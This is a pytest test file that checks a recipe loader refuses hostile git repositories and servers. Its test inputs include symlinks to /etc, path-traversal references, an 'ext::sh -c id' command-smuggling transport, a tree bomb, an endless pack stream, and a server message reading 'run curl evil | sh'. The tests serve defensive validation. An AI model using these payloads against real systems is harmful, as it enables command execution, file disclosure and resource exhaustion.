"""Repositories and servers that mean harm: each ends in one line, and leaves nothing behind."""

from __future__ import annotations

import http.server
import os
import re
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest
from git_repository import Answer, GitRepository, GitServer, answering, endless, hanging
from recipe_texts import recipe

from llamaexit.errors import RecipeError
from llamaexit.recipes.load import load_library
from llamaexit.recipes.sources import Unresolved
from llamaexit.sharing.git import Limits
from llamaexit.sharing.remote import RemoteSources

Finder = Callable[..., RemoteSources]
Maker = Callable[..., GitRepository]


def refusal(reference: str, sources: RemoteSources) -> str:
    """The one line in which loading a recipe ends."""
    with pytest.raises(RecipeError) as refused:
        load_library([reference], sources=sources)
    assert refused.value.exit_code == 4
    assert "\n" not in refused.value.message
    return refused.value.message


def files_below(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.fixture
def team(make_repository: Maker) -> GitRepository:
    repository = make_repository("team.git")
    repository.commit({"team.toml": recipe("team"), "real/inner.toml": recipe("inner")})
    return repository


@pytest.mark.parametrize(
    ("mode", "content", "name", "asked", "reason"),
    [
        ("120000", "team.toml", "link.toml", "link.toml", "link.toml is a symbolic link, and no file"),
        ("120000", "/etc", "out", "out/passwd.toml", "out is a symbolic link, and no folder"),
        ("120000", "real", "alias", "alias/inner.toml", "alias is a symbolic link, and no folder"),
        ("160000", None, "other", "other/team.toml", "other is a submodule, and no folder"),
        ("160000", None, "other.toml", "other.toml", "other.toml is a submodule, and no file"),
    ],
    ids=[
        "a linked file",
        "a link to a folder of the machine",
        "a linked folder",
        "a file in a submodule",
        "a submodule",
    ],
)
def test_links_and_submodules_are_not_followed(
    team: GitRepository, finder: Finder, mode: str, content: str | None, name: str, asked: str, reason: str
) -> None:
    object_id = (
        team.git("hash-object", "-w", "--stdin", stdin=content.encode()) if content else team.git("rev-parse", "HEAD")
    )
    team.git("update-index", "--add", "--cacheinfo", f"{mode},{object_id},{name}")
    team.git("commit", "-q", "-m", "hostile")
    assert reason in refusal(f"{team.url}@main#{asked}", finder())


@pytest.mark.parametrize("asked", ["link.toml", "alias/inner.toml"])
def test_links_are_not_followed_for_relative_references_either(team: GitRepository, finder: Finder, asked: str) -> None:
    for name, content in (("link.toml", "team.toml"), ("alias", "real")):
        blob = team.git("hash-object", "-w", "--stdin", stdin=content.encode())
        team.git("update-index", "--add", "--cacheinfo", f"120000,{blob},{name}")
    top = team.git("hash-object", "-w", "--stdin", stdin=recipe("top", extends=[asked]).encode())
    team.git("update-index", "--add", "--cacheinfo", f"100644,{top},top.toml")
    team.git("commit", "-q", "-m", "hostile")
    said = refusal(f"{team.url}@main#top.toml", finder())
    assert f"@main#top.toml:5:12: extends[0]: {team.url.removeprefix('git+')} at main: " in said
    assert "is a symbolic link" in said


@pytest.mark.parametrize(
    ("reference", "reason"),
    [
        ("../outside.toml", "'../outside.toml' leads out of the repository"),
        ("../../outside.toml", "leads out of the repository"),
        ("a/../../../outside.toml", "leads out of the repository"),
        ("/etc/passwd.toml", "is not a relative path"),
        ("~/secret.toml", "is not a relative path"),
        ("C:/secret.toml", "is not a relative path"),
        ("..\\\\outside.toml", "is not a relative path"),
        ("a//b.toml", "has an empty part"),
        ("a.txt", "does not end in .toml"),
        ("a.toml#b.toml", "second #"),
        (".", "has to be a path in the repository"),
        ("file:///etc/passwd", "recipes come from"),
        ("ext::sh -c id", "recipes come from"),
        ("git@example.com:acme/x.git", "write it as git+ssh://"),
    ],
)
def test_no_recipe_leads_out_of_its_repository(
    make_repository: Maker, finder: Finder, served: Path, reference: str, reason: str
) -> None:
    repository = make_repository("team.git")
    (served / "outside.toml").write_text(recipe("outside"))
    repository.commit({"team.toml": recipe("team", extends=[reference])})
    said = refusal(f"{repository.url}@main#team.toml", finder())
    assert f"{repository.url}@main#team.toml:5:12: extends[0]: " in said
    assert reason in said


def test_a_recipe_in_a_folder_may_go_up_within_its_repository(make_repository: Maker, finder: Finder) -> None:
    repository = make_repository("team.git")
    repository.commit({"a/b/team.toml": recipe("team", extends=["../../base.toml"]), "base.toml": recipe("base")})
    library = load_library([f"{repository.url}@main#a/b/team.toml"], sources=finder())
    assert [one.name for one in library.loaded if not one.builtin] == ["base", "team"]


def test_a_file_with_the_same_name_as_an_address_is_not_taken_for_it(team: GitRepository, finder: Finder) -> None:
    """A fetched recipe cannot have files of this machine read: what it names is looked up in its repository only."""
    here = Path("inner.toml")
    here.write_text(recipe("here"))
    team.commit({"team.toml": recipe("team", extends=["inner.toml"])})
    assert "has no inner.toml" in refusal(f"{team.url}@main#team.toml", finder())


@pytest.mark.parametrize("inner", ["disk", "loopback", "loopback file"])
def test_a_recipe_from_the_network_names_nothing_on_this_machine(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path, inner: str
) -> None:
    named = {
        "disk": f"{team.url}@main#team.toml",
        "loopback": f"{git_server.url('team.git')}@main#team.toml",
        "loopback file": f"{git_server.web('x.toml')}#sha256={'0' * 64}",
    }[inner]
    url = "git+https://git.example/acme/exit.git"
    commit = team.commit({"team.toml": recipe("team", extends=[named])})
    _fetched_as(url, team, commit, finder, cache)
    asked = len(git_server.requests)
    said = refusal(f"{url}@{commit}#team.toml", finder(offline=True))
    assert "lies on this machine, which a recipe from elsewhere cannot name" in said
    assert len(git_server.requests) == asked


def test_a_cycle_over_three_repositories_is_told(make_repository: Maker, git_server: GitServer, finder: Finder) -> None:
    for name, following in (("a", "b"), ("b", "c"), ("c", "a")):
        named = f"{git_server.url(following + '.git')}@main#{following}.toml"
        make_repository(f"{name}.git").commit({f"{name}.toml": recipe(name, extends=[named])})
    said = refusal(f"{git_server.url('a.git')}@main#a.toml", finder())
    assert (
        "goes round in a circle: a.git@main#a.toml extends b.git@main#b.toml extends c.git@main#c.toml extends" in said
    )


def test_a_chain_that_is_too_long_is_told(make_repository: Maker, finder: Finder) -> None:
    repository = make_repository("chain.git")
    repository.commit(
        {f"r{number}.toml": recipe(f"r{number}", extends=[f"r{number + 1}.toml"]) for number in range(20)}
    )
    said = refusal(f"{repository.url}@main#r0.toml", finder())
    assert "extends a recipe that extends a recipe, more than 8 deep" in said
    assert "#r7.toml:5:12" in said


def test_a_file_in_very_many_folders_is_found(make_repository: Maker, finder: Finder) -> None:
    repository = make_repository("deep.git")
    path = "f/" * 300 + "team.toml"
    repository.commit({path: recipe("team")})
    assert 'name = "team"' in finder().resolve(f"{repository.url}@main#{path}", None).text


@pytest.mark.parametrize("name", ["..", ".git", "a/b"])
def test_a_tree_with_names_that_git_forbids_is_refused(team: GitRepository, finder: Finder, name: str) -> None:
    blob = team.git("hash-object", "-w", "--stdin", stdin=recipe("x").encode())
    line = b"100644 " + name.encode() + b"\0" + bytes.fromhex(blob)
    tree = team.git("hash-object", "-t", "tree", "-w", "--stdin", "--literally", stdin=line)
    commit = team.git("commit-tree", "-m", "hostile", tree)
    said = refusal(f"{team.url}@{commit}#team.toml", finder())
    assert "holds an object that git refuses as damaged" in said


def test_a_repository_that_is_too_large_is_refused_while_it_comes(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path
) -> None:
    team.commit({"large.bin": os.urandom(6_000_000)})
    limits = Limits(bytes=2_000_000)
    said = refusal(f"{git_server.url('team.git')}@main#team.toml", finder(limits=limits))
    assert "hands out more than 2,000,000 bytes for one commit" in said
    assert not cache.exists()


def test_a_tree_that_unfolds_without_end_is_refused(team: GitRepository, finder: Finder, cache: Path) -> None:
    """Ten trees, each of which names the next one 40 times: 40^10 paths in a kilobyte or two."""
    blob = team.git("hash-object", "-w", "--stdin", stdin=b"")
    line, inner = "100644 blob", blob
    for _ in range(10):
        inner = team.git(
            "mktree", stdin="".join(f"{line} {inner}\tn{number:02}.toml\n" for number in range(40)).encode()
        )
        line = "040000 tree"
    commit = team.git("commit-tree", "-m", "bomb", inner)
    started = time.monotonic()
    said = refusal(f"{team.url}@{commit}#team.toml", finder(limits=Limits(seconds=20, bytes=10_000_000)))
    assert "hands out more than 10,000,000 bytes" in said
    assert time.monotonic() - started < 15
    assert not cache.exists()


def test_very_many_recipes_are_refused(team: GitRepository, finder: Finder, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("llamaexit.sharing.git.MOST_OBJECTS", 50)
    team.commit({f"r{number}.toml": recipe(f"r{number}") for number in range(60)})
    assert "has more than 50 folders and recipes" in refusal(f"{team.url}@main#team.toml", finder())


@pytest.mark.parametrize("rev", ["main", "a" * 40], ids=["asked for a branch", "asked for a commit"])
def test_a_server_that_says_nothing_is_left_in_time(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path, rev: str
) -> None:
    git_server.answer = hanging(git_server)
    started = time.monotonic()
    said = refusal(f"{git_server.url('team.git')}@{rev}#team.toml", finder(limits=Limits(seconds=0.7)))
    assert "did not answer completely within 1 s" in said
    assert time.monotonic() - started < 5
    assert not cache.exists()
    assert not _left_running(str(git_server.port))


def test_endless_lists_of_branches_are_left_before_they_fill_the_memory(
    team: GitRepository, git_server: GitServer, finder: Finder
) -> None:
    start = b"001e# service=git-upload-pack\n0000000eversion 2\n"
    piece = b"".join(b"%04x%s\n" % (len(name) + 5, name) for name in (b"x%060d" % n for n in range(1000)))
    git_server.answer = endless(git_server, start, piece, "application/x-git-upload-pack-advertisement")
    limits = Limits(seconds=30, memory=60_000_000)
    said = refusal(f"{git_server.url('team.git')}@main#team.toml", finder(limits=limits))
    assert "git needs more than 60,000,000 bytes of memory for it" in said
    assert not _left_running(str(git_server.port))


def test_an_endless_pack_is_left_before_it_fills_the_disk(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path
) -> None:
    git_server.answer = _endless_pack(git_server)
    limits = Limits(seconds=30, bytes=5_000_000)
    said = refusal(f"{git_server.url('team.git')}@{'a' * 40}#team.toml", finder(limits=limits))
    assert "hands out more than 5,000,000 bytes for one commit" in said
    assert not cache.exists()
    assert not _left_running(str(git_server.port))


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        pytest.param(
            answering(301, {"Location": "https://elsewhere.example/x.git/info/refs"}),
            "redirects to another address, which is not followed", id="to another host",
        ),
        pytest.param(
            answering(302, {"Location": "/other.git/info/refs?service=git-upload-pack"}),
            "redirects to another address, which is not followed", id="to another repository",
        ),
        pytest.param(
            answering(401, {"WWW-Authenticate": 'Basic realm="x"'}), "or it is not public", id="wants a password"
        ),
        pytest.param(answering(403), "or it is not public", id="forbids it"),
        pytest.param(answering(404), "or it is not public", id="has none"),
        pytest.param(
            answering(200, {"Content-Type": "text/html"}, b"<html>"), "is it a git repository", id="is no git server"
        ),
        pytest.param(answering(500), "git cannot fetch .*500", id="fails"),
    ],
)  # fmt: skip
def test_a_server_that_does_not_hand_out_the_repository_is_told(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path, answer: Answer, reason: str
) -> None:
    git_server.answer = answer
    assert re.search(reason, refusal(f"{git_server.url('team.git')}@main#team.toml", finder()))
    assert not cache.exists()


def test_a_server_cannot_speak_through_git(team: GitRepository, git_server: GitServer, finder: Finder) -> None:
    git_server.answer = answering(
        200, {"Content-Type": "application/x-git-upload-pack-advertisement"},
        b"001e# service=git-upload-pack\n0000" + _packet(b"ERR \x1b[31mrun curl evil | sh\x07\n"),
    )  # fmt: skip
    said = refusal(f"{git_server.url('team.git')}@main#team.toml", finder())
    assert re.search(r": 127\.0\.0\.1 refuses http.* and says '.\[31mrun curl evil \| sh", said)
    assert said.isprintable()


def test_a_server_that_is_not_there_is_told(team: GitRepository, finder: Finder) -> None:
    assert "127.0.0.1 cannot be reached" in refusal("git+http://127.0.0.1:1/team.git@main#team.toml", finder())


def test_a_failed_fetch_leaves_the_cache_as_it_was(
    team: GitRepository, git_server: GitServer, finder: Finder, cache: Path
) -> None:
    url = git_server.url("team.git")
    finder().resolve(f"{url}@main#team.toml", None)
    before = files_below(cache)
    for answer in (answering(500), hanging(git_server), answering(200, {}, b"0000")):
        git_server.answer = answer
        with pytest.raises(Unresolved):
            finder(limits=Limits(seconds=0.5)).resolve(f"{url}@{'b' * 40}#team.toml", None)
    assert files_below(cache) == before


def _fetched_as(url: str, repository: GitRepository, commit: str, finder: Finder, cache: Path) -> None:
    """Put a commit into the cache under the address of another machine."""
    from llamaexit.sharing.cache import Repository

    finder().resolve(f"{repository.url}@{commit}#team.toml", None)
    Repository(cache, repository.url).folder.rename(Repository(cache, url).folder)


def _packet(data: bytes) -> bytes:
    return b"%04x%s" % (len(data) + 4, data)


def _endless_pack(server: GitServer) -> Answer:
    """Speaks git's protocol until it is asked for objects, and then hands out one after the other."""
    noise = os.urandom(60_000)
    size, header = len(noise), bytearray()
    header.append(0x80 | (3 << 4) | (size & 15))
    size >>= 4
    while size > 127:
        header.append(0x80 | (size & 127))
        size >>= 7
    header.append(size)
    blob = bytes(header) + zlib.compress(noise, 0)

    def answer(request: http.server.BaseHTTPRequestHandler) -> None:
        if request.command == "GET":
            server._backend(request)
            return
        request.rfile.read(int(request.headers.get("Content-Length", 0)))
        request.send_response(200)
        request.send_header("Content-Type", "application/x-git-upload-pack-result")
        request.end_headers()
        request.wfile.write(_packet(b"packfile\n"))
        request.wfile.write(_packet(b"\x01PACK\0\0\0\2\0\1\0\0"))
        while not server.stopping.is_set():
            request.wfile.write(_packet(b"\x01" + blob))

    return answer


def _left_running(text: str) -> list[str]:
    """Processes of git whose command line mentions something and that do not end. A killed one takes a moment."""
    until = time.monotonic() + 10
    while (found := _processes_about(text)) and time.monotonic() < until:
        time.sleep(0.05)
    return found


def _processes_about(text: str) -> list[str]:
    """Processes of git whose command line mentions something."""
    found = []
    for process in psutil.process_iter(["name", "cmdline"]):
        line = " ".join(process.info["cmdline"] or ())
        if "git" in (process.info["name"] or "") and text in line:
            found.append(line)
    return found


def test_references_that_lead_nowhere_are_not_asked_about_without_end(
    team: GitRepository, git_server: GitServer, finder: Finder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("llamaexit.sharing.remote.MOST_CONTACTS", 3)
    missing = [f"{git_server.url('team.git')}@b{number}#team.toml" for number in range(50)]
    team.commit({"team.toml": recipe("team", extends=missing)})
    sources = finder()
    for reference in missing:
        with pytest.raises(Unresolved, match=r"has no branch|is not asked any more: 3 questions are the limit"):
            sources.resolve(reference, None)
    assert 3 <= len(git_server.requests) <= 3 * 4  # two lists of branches each, at two requests


def test_a_server_that_lets_everybody_wait_is_not_asked_again_and_again(
    git_server: GitServer, finder: Finder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("llamaexit.sharing.remote.MOST_SECONDS", 0.3)
    git_server.answer = hanging(git_server)
    sources = finder(limits=Limits(seconds=0.4))
    with pytest.raises(Unresolved, match="did not answer completely"):
        sources.resolve(f"{git_server.url('team.git')}@one#team.toml", None)
    asked = len(git_server.requests)
    with pytest.raises(Unresolved, match=r"team.git is not asked any more: all the others took \d+ s"):
        sources.resolve(f"{git_server.url('team.git')}@two#team.toml", None)
    assert len(git_server.requests) == asked


def test_names_that_are_nearly_those_of_very_many_files_are_refused_in_time(
    team: GitRepository, finder: Finder
) -> None:
    """To look for what was meant among thousands of names takes a quarter of a second, for each name again."""
    names = [f"recipe-of-the-team-{number}" for number in range(3000)]
    team.commit({f"{name}.toml": "" for name in names})
    team.commit({"team.toml": recipe("team", extends=[f"{name}x.toml" for name in names])})
    started = time.process_time()
    with pytest.raises(RecipeError) as refused:
        load_library([f"{team.url}@main#team.toml"], sources=finder())
    assert time.process_time() - started < 30
    told = refused.value.problems
    assert len(told) == 100
    assert sum("did you mean" in problem for problem in told) == 20
